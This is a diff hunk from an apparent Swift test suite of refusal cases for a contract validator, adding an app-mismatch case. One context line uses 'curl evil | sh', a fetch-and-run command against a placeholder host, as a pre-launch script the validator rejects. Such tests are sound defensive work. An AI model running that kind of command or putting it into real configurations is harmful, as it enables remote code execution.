@@ -25,6 +25,7 @@ struct RefusalTests {
             $0.base["pre_launch_script"] = "curl evil | sh"
         },
         Case(name: "a base that the contract does not allow", code: .baseNotAllowed) { $0.allowed.removeAll() },
+        Case(name: "a demand for another app's contract", code: .appMismatch) { $0.overrideApp = $0.owner },
         Case(name: "a signer that is not the owner", code: .ownerMismatch) { $0.owner = World.app },
         Case(name: "no code at the app's address", code: .noContract) { $0.hasCode = false },
         Case(name: "a call that would revert", code: .simulationReverted) {
